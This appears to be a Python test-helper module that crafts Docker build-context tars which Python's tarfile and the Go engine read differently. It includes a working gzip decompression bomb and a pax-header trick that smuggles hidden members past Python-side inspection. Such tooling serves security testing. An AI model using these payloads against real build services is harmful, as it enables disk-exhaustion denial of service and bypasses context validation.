"""Build contexts that are plain tars to Python's `tarfile` and compressed streams to the
engine, which picks a context's decompressor from its first bytes (Moby's
`DetectCompression`: gzip, bzip2, xz, zstd and zstd's skippable frames)."""

from __future__ import annotations

import io
import struct
import tarfile
import zlib

# The prefixes the engine reads as compressed (a skippable zstd frame is 0x184D2A5?, LE).
MAGICS = {
    "gzip": b"\x1f\x8b\x08",
    "bzip2": b"BZh",
    "xz": b"\xfd7zXZ\x00",
    "zstd": b"\x28\xb5\x2f\xfd",
    "zstd-skippable": b"\x5a\x2a\x4d\x18",
}


def _seal(header: bytearray) -> bytes:
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\x00 " % sum(header)
    return bytes(header)


def named(magic: bytes) -> bytes:
    """A plain tar of one small file whose header starts with `magic` (its name's first
    bytes; a NUL in the magic ends the name there, which tarfile accepts)."""
    info = tarfile.TarInfo("m" * 99)
    info.size = 5
    header = bytearray(info.tobuf(tarfile.USTAR_FORMAT))
    header[: len(magic)] = magic
    return _seal(header) + b"hello" + bytes(507) + bytes(1024)


def gzip_bomb(nbytes: int) -> bytes:
    """A plain tar of one member whose bytes are also a gzip stream (its header's first 12
    bytes a gzip header whose extra field spans the rest of it, the deflate stream in the
    member's data) of another tar holding one file of `nbytes` zeros: about a thousandth of
    `nbytes` of context that the engine inflates to `nbytes` on its own disk."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts: list[bytes] = []
    crc = total = 0

    def feed(b: bytes) -> None:
        nonlocal crc, total
        crc, total = zlib.crc32(b, crc), total + len(b)
        parts.append(c.compress(b))

    inner = tarfile.TarInfo("zeros")
    inner.size = nbytes
    feed(inner.tobuf(tarfile.USTAR_FORMAT))
    block, left = bytes(1 << 20), nbytes
    while left:
        n = min(left, len(block))
        feed(block[:n])
        left -= n
    feed(bytes(-nbytes % 512) + bytes(1024))
    parts.append(c.flush())
    body = b"".join(parts) + struct.pack("<II", crc & 0xFFFFFFFF, total & 0xFFFFFFFF)
    outer = tarfile.TarInfo("x" * 99)
    outer.size = len(body)
    header = bytearray(outer.tobuf(tarfile.USTAR_FORMAT))
    header[:12] = b"\x1f\x8b\x08\x04AAAAA\x03" + struct.pack("<H", 500)
    return _seal(header) + body + bytes(-len(body) % 512) + bytes(1024)


def members(data: bytes) -> list[str]:
    """The member names tarfile reads in `data` as an uncompressed tar."""
    with tarfile.open(fileobj=io.BytesIO(data), mode="r:") as tar:
        return tar.getnames()


def _pax(kind: bytes, records: dict[str, str]) -> bytes:
    body = b""
    for key, value in records.items():
        rec = f" {key}={value}\n".encode()
        n = len(rec) + 1
        while len(str(n)) + len(rec) != n:
            n = len(str(n)) + len(rec)
        body += str(n).encode() + rec
    info = tarfile.TarInfo("././@PaxHeader")
    info.type, info.size = kind, len(body)
    return info.tobuf(tarfile.USTAR_FORMAT) + body + bytes(-len(body) % 512)


def plain_member(name: str, data: bytes = b"", size: int | None = None) -> bytes:
    info = tarfile.TarInfo(name)
    info.size = len(data) if size is None else size
    return info.tobuf(tarfile.USTAR_FORMAT) + data + bytes(-len(data) % 512)


def pax_smuggled(hidden: bytes) -> bytes:
    """A tar whose member `cover` holds `hidden` (whole tar members) to Python's tarfile and
    holds nothing to Go's reader: a global pax header's `size` is applied by tarfile to the
    next member that has a local pax header, by Go to none, so the engine reads `hidden` as
    members of the context."""
    return (
        _pax(tarfile.XGLTYPE, {"size": str(len(hidden))})
        + _pax(tarfile.XHDTYPE, {"comment": "x"})
        + plain_member("cover", size=0)
        + hidden
        + bytes(1024)
    )


def raw_names(data: bytes) -> list[str]:
    """The members of `data` as a reader that takes sizes from the headers alone and skips
    pax headers unapplied (Go's reader, for a global header) cuts it."""
    names, pos = [], 0
    while pos + 512 <= len(data) and data[pos : pos + 512] != bytes(512):
        header = data[pos : pos + 512]
        size = int(header[124:136].rstrip(b"\0 ") or b"0", 8)
        if header[156:157] not in (b"g", b"x"):
            names.append(header[:100].rstrip(b"\0").decode("latin-1"))
        kind = header[156:157]
        pos += 512 + (0 if kind in (b"1", b"2", b"5") else -(-size // 512) * 512)
    return names
